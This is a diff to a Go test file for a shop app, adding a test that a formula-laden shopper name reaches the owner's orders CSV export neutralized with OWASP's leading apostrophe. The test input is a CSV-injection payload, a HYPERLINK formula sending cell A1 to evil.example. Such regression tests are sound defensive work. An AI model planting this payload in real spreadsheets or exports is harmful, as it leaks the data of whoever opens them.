@@ -2,7 +2,9 @@ package web_test
 
 import (
 	"encoding/csv"
+	"encoding/json"
 	"fmt"
+	"net/http"
 	"net/url"
 	"strings"
 	"testing"
@@ -110,5 +112,33 @@ func TestShopperPage(t *testing.T) {
 		if !strings.Contains(body, want) {
 			t.Errorf("the shopper's page lacks %q", want)
 		}
+	}
+}
+
+// A shopper chooses their own name: one that a spreadsheet would run as a formula reaches the
+// owner's orders CSV as text, with OWASP's leading apostrophe, and the total stays a number.
+func TestOrdersExportNeutralizesFormulas(t *testing.T) {
+	ts := newTestServer(t)
+	owner := ts.browser(t)
+	owner.signIn("demo@chatshop.test", "demo-password")
+	name := `=HYPERLINK("http://evil.example/?x="&A1,"click")`
+	body, _ := json.Marshal(map[string]string{"page_id": models.DemoPageID, "name": name, "locale": "en_US"})
+	var shopper struct{ PSID string }
+	if status := ts.sandboxJSON(t, http.MethodPost, "/sandbox/messenger/api/shoppers", string(body), &shopper); status != http.StatusCreated {
+		t.Fatalf("create shopper: %d", status)
+	}
+	ts.buy(t, shopper.PSID, ts.demoVariant(t, 5))
+	o := ts.orderOf(t, shopper.PSID)
+
+	res := owner.get("/app/orders/export")
+	records, err := csv.NewReader(strings.NewReader(res.body)).ReadAll()
+	if err != nil || len(records) != 2 || records[0][3] != "Shopper" || records[1][0] != o.Number() {
+		t.Fatalf("export: %d %v %q", res.StatusCode, err, records)
+	}
+	if got, want := records[1][3], "'"+name; got != want {
+		t.Errorf("shopper cell %q, want %q", got, want)
+	}
+	if got, want := records[1][5], models.DecimalString(o.TotalMinor, o.Currency); got != want {
+		t.Errorf("total cell %q, want %q", got, want)
 	}
 }
